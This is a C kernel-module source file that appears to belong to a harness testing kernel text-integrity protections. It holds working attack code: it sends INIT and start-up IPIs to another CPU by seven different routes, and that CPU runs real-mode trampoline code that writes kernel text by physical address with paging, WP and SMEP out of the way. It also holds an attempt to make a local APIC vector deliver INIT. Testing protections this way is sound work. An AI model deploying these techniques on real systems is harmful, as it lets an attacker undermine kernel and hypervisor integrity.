// SPDX-License-Identifier: GPL-2.0-only
/*
 * INIT and a start-up interrupt to another CPU, which then begins in real mode with no page
 * tables of the kernel: code of the attacker switches to protected mode without paging, where
 * neither WP nor page tables nor SMEP exist, and writes a byte of kernel text by its physical
 * address.
 */
#include <linux/delay.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/slab.h>
#include <linux/smp.h>
#include <asm/apic.h>
#include <asm/io.h>
#include <asm/realmode.h>

#include "attack.h"
#include "memory.h"
#include "resume.h"

/* Linux keeps the first MiB for firmware and its own start-up code: this page nobody uses. */
#define START_PA   0x8000
#define START_PAGE (START_PA >> PAGE_SHIFT)

enum {
	STATE_NOT_RUN,
	STATE_RAN,
	STATE_WROTE,
	STATE_FAULT
};

/* What the code below has at its end. */
struct startup_args {
	u32 target; /* physical address */
	u32 byte;
	u32 state;
};

extern const u8 startup_begin[], startup_end[];

asm(".pushsection .rodata\n"
    "	.balign 8\n"
    "startup_begin:\n"
    "	.code16\n"
    "	cli\n"
    "	mov %cs, %ax\n"
    "	mov %ax, %ds\n"
    "	lgdtl startup_gdtr - startup_begin\n"
    "	lidtl startup_idtr - startup_begin\n"
    "	mov %cr0, %eax\n"
    "	or $1, %eax\n"
    "	mov %eax, %cr0\n"
    "	ljmpl $8, $0x8000 + startup_32 - startup_begin\n"
    "	.code32\n"
    "startup_32:\n"
    "	mov $16, %ax\n"
    "	mov %ax, %ds\n"
    "	mov %ax, %ss\n"
    "	mov $0x9000, %esp\n"
    "	mov $0x8000 + startup_args - startup_begin, %ebx\n"
    "	movl $1, 8(%ebx)\n" /* STATE_RAN */
    "	mov 0(%ebx), %edi\n"
    "	mov 4(%ebx), %al\n"
    "	mov %al, (%edi)\n"
    "	movl $2, 8(%ebx)\n" /* STATE_WROTE */
    "1:	hlt\n"
    "	jmp 1b\n"
    "startup_fault:\n"
    "	mov $0x8000 + startup_args - startup_begin, %ebx\n"
    "	movl $3, 8(%ebx)\n" /* STATE_FAULT */
    "2:	hlt\n"
    "	jmp 2b\n"
    "	.code64\n"
    "	.balign 8\n"
    "startup_gdt:\n"
    "	.quad 0, 0x00cf9b000000ffff, 0x00cf93000000ffff\n"
    "startup_idt:\n"
    "	.rept 32\n"
    "	.word 0x8000 + startup_fault - startup_begin, 8, 0x8e00, 0\n"
    "	.endr\n"
    "startup_gdtr:\n"
    "	.word 23\n"
    "	.long 0x8000 + startup_gdt - startup_begin\n"
    "startup_idtr:\n"
    "	.word 255\n"
    "	.long 0x8000 + startup_idt - startup_begin\n"
    "	.balign 4\n"
    "startup_args:\n"
    "	.long 0, 0, 0\n"
    "startup_end:\n"
    ".popsection\n");

/* ---- how INIT and the start-up interrupt are sent; each yields the trap of its store ---- */

#define ICR_INIT    (APIC_INT_LEVELTRIG | APIC_INT_ASSERT | APIC_DM_INIT)
#define IO_APIC_PA  0xfec00000
#define MESSAGES_PA 0xfee00000
#define KEYBOARD    1 /* pin of the I/O APIC */

struct form {
	int (*init)(unsigned int cpu);
	int (*start)(unsigned int cpu);
};

static int store(void __iomem *at, u32 value)
{
	return TRAP_OF("movl %1, (%2)", "r"(value), "r"(at));
}

static void __iomem *apic_register(u32 offset)
{
	return (void __iomem *)(APIC_BASE + offset);
}

static int command(u32 destination, u32 low)
{
	int trap = store(apic_register(APIC_ICR2), SET_XAPIC_DEST_FIELD(destination));

	return trap != TRAP_NONE ? trap : store(apic_register(APIC_ICR), low);
}

static int init_physical(unsigned int cpu)
{
	return command(cpu_physical_id(cpu), ICR_INIT);
}

static int start_physical(unsigned int cpu)
{
	return command(cpu_physical_id(cpu), APIC_DM_STARTUP | START_PAGE);
}

/* A kernel that addresses CPUs by their own names leaves the register empty. */
static void read_logical(void *id)
{
	if (!GET_APIC_LOGICAL_ID(native_apic_mem_read(APIC_LDR)))
		native_apic_mem_write(APIC_LDR, SET_APIC_LOGICAL_ID(1u << smp_processor_id()));
	*(u32 *)id = GET_APIC_LOGICAL_ID(native_apic_mem_read(APIC_LDR));
}

/* The CPU's own register says it; the CPU does not answer calls while it is held. */
static u32 logical_id;

static int init_logical(unsigned int cpu)
{
	return command(logical_id, ICR_INIT | APIC_DEST_LOGICAL);
}

static int init_others(unsigned int cpu)
{
	return store(apic_register(APIC_ICR), ICR_INIT | APIC_DEST_ALLBUT);
}

static int start_others(unsigned int cpu)
{
	return store(apic_register(APIC_ICR), APIC_DM_STARTUP | APIC_DEST_ALLBUT | START_PAGE);
}

static int init_string(unsigned int cpu)
{
	u32 value = ICR_INIT;
	const u32 *from = &value;
	void __iomem *to = apic_register(APIC_ICR);
	unsigned long count = 1;
	int trap;

	store(apic_register(APIC_ICR2), SET_XAPIC_DEST_FIELD(cpu_physical_id(cpu)));
	asm volatile("1:	rep movsl\n"
		     "	movl $-1, %%eax\n"
		     "2:\n" _ASM_EXTABLE_FAULT(1b, 2b)
		     : "=&a"(trap), "+S"(from), "+D"(to), "+c"(count)
		     :
		     : "memory");
	return trap;
}

static int store_at(phys_addr_t at, u32 value)
{
	void __iomem *page = ioremap(at & PAGE_MASK, PAGE_SIZE);
	int trap = page ? store(page + offset_in_page(at), value) : X86_TRAP_PF;

	if (page)
		iounmap(page);
	return trap;
}

/* Through another mapping of the page. */
static int init_alias(unsigned int cpu)
{
	store(apic_register(APIC_ICR2), SET_XAPIC_DEST_FIELD(cpu_physical_id(cpu)));
	return store_at(APIC_DEFAULT_PHYS_BASE + APIC_ICR, ICR_INIT);
}

/* As a device sends interrupts: the address says to whom, the value what. */
static int init_message(unsigned int cpu)
{
	return store_at(MESSAGES_PA + (cpu_physical_id(cpu) << 12),
			APIC_INT_ASSERT | APIC_DM_INIT);
}

static int io_apic_put(void __iomem *page, u32 index, u32 value)
{
	store(page, index);
	return store(page + 0x10, value);
}

static u32 io_apic_get(void __iomem *page, u32 index)
{
	store(page, index);
	return readl(page + 0x10);
}

/* The keyboard is made to interrupt, and its interrupt is INIT. */
static int init_io_apic(unsigned int cpu)
{
	void __iomem *page = ioremap(IO_APIC_PA, PAGE_SIZE);
	u32 index = 0x10 + 2 * KEYBOARD, low, high;
	int trap;

	if (!page)
		return X86_TRAP_PF;
	low = io_apic_get(page, index);
	high = io_apic_get(page, index + 1);
	io_apic_put(page, index + 1, cpu_physical_id(cpu) << 24);
	trap = io_apic_put(page, index, APIC_DM_INIT);
	inb(0x60);
	outb(0xd2, 0x64); /* as if a key had sent the next byte */
	mdelay(1);
	outb(0x1, 0x60);
	mdelay(50);
	io_apic_put(page, index, low);
	io_apic_put(page, index + 1, high);
	inb(0x60);
	iounmap(page);
	return trap;
}

/* ---- the attack ---- */

static bool refused(int trap)
{
	return trap != TRAP_NONE;
}

static u32 start_and_wait(struct attempt *t, const struct form *form, u8 *page,
			  unsigned int cpu, u8 byte)
{
	size_t size = startup_end - startup_begin;
	struct startup_args *args = (void *)(page + size - sizeof(*args));
	int init, start,
		left = 500; /* 10 s: emulated CPUs of a busy machine may take seconds */

	memcpy(page, startup_begin, size);
	args->target = ((u64)t->pfn << PAGE_SHIFT) + offset_in_page(t->va);
	args->byte = byte;
	init = form->init(cpu);
	mdelay(10);
	start = form->start(cpu);
	mdelay(1);
	form->start(cpu);
	attack_note(t, "INIT: %s, start: %s", attack_trap_name(init), attack_trap_name(start));
	if (refused(init) || refused(start))
		left = 25;
	while (READ_ONCE(args->state) < STATE_WROTE && left--)
		mdelay(20);
	return READ_ONCE(args->state);
}

static const struct form *form_of(const struct attempt *t);

static int startup_poke(struct attempt *t, u8 byte)
{
	static const char *const states[] = { "code did not run", "code ran", "code wrote",
					      "code faulted" };
	unsigned int victim = cpumask_last(cpu_online_mask);
	u8 *saved = kmemdup(__va(START_PA), PAGE_SIZE, GFP_KERNEL);
	u32 state;
	int err = saved ? 0 : -ENOMEM;

	smp_call_function_single(victim, read_logical, &logical_id, 1);
	if (!err)
		err = resume_hold(victim);
	if (err)
		goto free;
	state = start_and_wait(t, form_of(t), __va(START_PA), victim, byte);
	err = resume_return(state != STATE_NOT_RUN);
	attack_note(t, "CPU %u: %s, back in service: %d", victim,
		    state < ARRAY_SIZE(states) ? states[state] : "?", err);
	memcpy(__va(START_PA), saved, PAGE_SIZE);
	err = state == STATE_WROTE ? 0 : -EPERM;
free:
	kfree(saved);
	return err;
}

static enum attack_outcome startup(struct attempt *t)
{
	struct real_mode_header **header = attack_symbol("real_mode_header");

	if (memory_target_text(t))
		return ATTACK_ERROR;
	if (num_online_cpus() != 2 || x2apic_mode || !header ||
	    virt_to_phys(*header) >> PAGE_SHIFT == START_PAGE) {
		attack_note(t, "not 2 CPUs, x2APIC mode, or no room below 1 MiB");
		return ATTACK_ERROR;
	}
	return startup_poke(t, t->wanted) ? ATTACK_REFUSED : ATTACK_SUCCEEDED;
}

static int startup_undo(struct attempt *t)
{
	return startup_poke(t, t->was);
}

/* A local vector that delivers INIT, or SMI, whenever its source asks: it is enough that the
 * register takes it. */
static enum attack_outcome local_vector(struct attempt *t)
{
	void __iomem *at = apic_register(APIC_LVTTHMR);
	unsigned long flags;
	u32 was, is;

	if (x2apic_mode)
		return ATTACK_ERROR;
	local_irq_save(flags);
	was = readl(at);
	t->trap = store(at, APIC_LVT_MASKED | APIC_DM_INIT);
	is = readl(at);
	store(at, was);
	local_irq_restore(flags);
	attack_note(t, "%s, was %x is %x", attack_trap_name(t->trap), was, is);
	return (is & APIC_MODE_MASK) == APIC_DM_INIT ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
}

#define GIVES "a CPU that nobody watches"
#define ASSET "restart of a CPU"

#define STARTUP(attack_name, attack_title)                                                  \
	{                                                                                   \
		.name = attack_name, .title = attack_title, .gives = GIVES, .asset = ASSET, \
		.control = ATTACK_BARE, .own_vm = true, .cpus = 2, .run = startup,          \
		.look = memory_look, .undo = startup_undo,                                  \
	}

static const struct attack startup_attacks[] = {
	STARTUP("init-ipi", "start another CPU in real mode and write text without paging"),
	STARTUP("init-logical", "the same, to the CPU's logical name"),
	STARTUP("init-others", "the same, to all CPUs but this one"),
	STARTUP("init-string", "the same, INIT sent by a string instruction"),
	STARTUP("init-alias", "the same, INIT sent through another mapping of the APIC"),
	STARTUP("init-message", "the same, INIT sent as a device's message"),
	STARTUP("init-io-apic", "the same, INIT sent by the I/O APIC"),
	{
		.name = "init-local",
		.title = "have a local vector deliver INIT",
		.gives = GIVES,
		.asset = ASSET,
		.control = ATTACK_BARE,
		.run = local_vector,
	},
};

/* In the order of the table above. */
static const struct form forms[] = {
	{ init_physical, start_physical }, { init_logical, start_physical },
	{ init_others, start_others },	   { init_string, start_physical },
	{ init_alias, start_physical },	   { init_message, start_physical },
	{ init_io_apic, start_physical },
};

static const struct form *form_of(const struct attempt *t)
{
	return &forms[t->attack - startup_attacks];
}

const struct attack_table startup_table = { startup_attacks, ARRAY_SIZE(startup_attacks) };
